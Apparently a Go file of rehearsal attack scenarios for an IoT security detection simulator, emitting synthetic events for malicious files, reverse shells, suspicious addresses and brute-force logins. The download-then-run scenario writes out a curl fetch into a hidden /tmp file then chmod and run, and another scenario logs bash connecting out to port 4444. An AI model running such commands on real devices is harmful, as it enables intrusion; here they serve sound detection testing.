package attack

import "github.com/tvilling/tvilling/internal/security/event"

// maliciousFile tells of a process with the digest of a listed file.
func maliciousFile() Attack {
	return Attack{
		Name: "malicious-file", Title: "Malicious file run", Type: "IoT_MaliciousFile", Detection: "malicious-file",
		Describe: "A program is started whose digest is on the list of malicious files that comes for rehearsals.",
		Steps: []Step{{Title: "The device tells of a program with its digest", act: func(s *scene) {
			s.ordinary(2)
			s.process(root, "/usr/local/bin/updater --daemon")
			p, ok := s.events[len(s.events)-1].Items[0].(*event.ProcessCreate)
			if ok {
				p.Extra = event.Details{{Name: "Hash", Value: "sha1:" + rehearsalSHA1}}
			}
		}}},
	}
}

// downloadSequence tells of a download and, in a later message, of the file's run.
func downloadSequence() Attack {
	return Attack{
		Name: "download-then-run-sequence", Title: "Downloaded file was run", Type: "IoT_LinuxBackdoor", Detection: "download-then-run-sequence",
		Describe: "One process downloads a file, another one runs it shortly after.",
		Steps: []Step{
			{Title: "The device tells of the download", act: func(s *scene) {
				s.ordinary(1)
				s.process(pump, "curl -s -o /tmp/.cache-update http://203.0.113.7/a")
				s.process(pump, "chmod 755 /tmp/.cache-update")
			}},
			{Title: "The device tells of the run", act: func(s *scene) {
				s.process(pump, "/tmp/.cache-update -q")
				s.ordinary(2)
			}},
		},
	}
}

// connections are the attacks that a connection shows.
func connections() []Attack {
	return []Attack{
		{
			Name: "reverse-shell-connection", Title: "Shell that connects out", Type: "IoT_ReverseShell", Detection: "reverse-shell-connection",
			Describe: "A shell itself makes a connection to an address outside.",
			Steps: []Step{{Title: "The device tells of the shell's connection", act: func(s *scene) {
				s.ordinary(1)
				s.connection("/usr/bin/bash", "203.0.113.7", "4444")
				s.ordinary(1)
			}}},
		},
		{
			Name: "suspicious-address", Title: "Communication with a suspicious address", Type: "IoT_TiConnection", Detection: "suspicious-address",
			Describe: "A program connects to an address of the list of malicious addresses that comes for rehearsals.",
			Steps: []Step{{Title: "The device tells of the connection", act: func(s *scene) {
				s.ordinary(2)
				s.connection("/opt/pump/pumpd", "192.0.2.66", "8443")
			}}},
		},
	}
}

// guesses is how many failed logins an attack has: more than the threshold of
// the detections as it is delivered.
const guesses = 14

// logins are the attacks that logins show.
func logins() []Attack {
	guess := func(s *scene, from string) {
		names := []string{"root", "admin", "pi", "ubnt", "user", "support", "guest"}
		for i := range guesses {
			s.login(names[i%len(names)], from, false)
		}
	}
	local := func(success bool) func(*scene) {
		return func(s *scene) {
			s.ordinary(2)
			s.login("pump", "", success)
		}
	}
	return []Attack{
		{
			Name: "brute-force-failed", Title: "Failed brute-force attempt", Type: "IoT_Bruteforce_Fail", Detection: "brute-force-failed",
			Describe: "Somebody tries users and passwords from one address, in vain.",
			Steps: []Step{{Title: "The device tells of many failed logins", act: func(s *scene) {
				s.ordinary(1)
				guess(s, "203.0.113.7")
			}}},
		},
		{
			Name: "brute-force-success", Title: "Successful brute-force attempt", Type: "IoT_Bruteforce_Success", Detection: "brute-force-success",
			Describe: "Somebody tries users and passwords from one address until one works.",
			Steps: []Step{
				{Title: "The device tells of many failed logins", act: func(s *scene) { guess(s, "203.0.113.8") }},
				{Title: "The device tells of a login that worked", act: func(s *scene) {
					s.login("pi", "203.0.113.8", true)
					s.ordinary(2)
				}},
			},
		},
		{
			Name: "local-login-failed", Title: "Failed local login", Type: "IoT_FailedLocalLogin", Detection: "local-login-failed",
			Describe: "Somebody who stands before the device fails to log in.",
			Steps:    []Step{{Title: "The device tells of the attempt", act: local(false)}},
		},
		{
			Name: "local-login-succeeded", Title: "Successful local login", Type: "IoT_SucessfulLocalLogin", Detection: "local-login-succeeded",
			Describe: "Somebody who stands before the device logs in.",
			Steps:    []Step{{Title: "The device tells of the login", act: local(true)}},
		},
	}
}
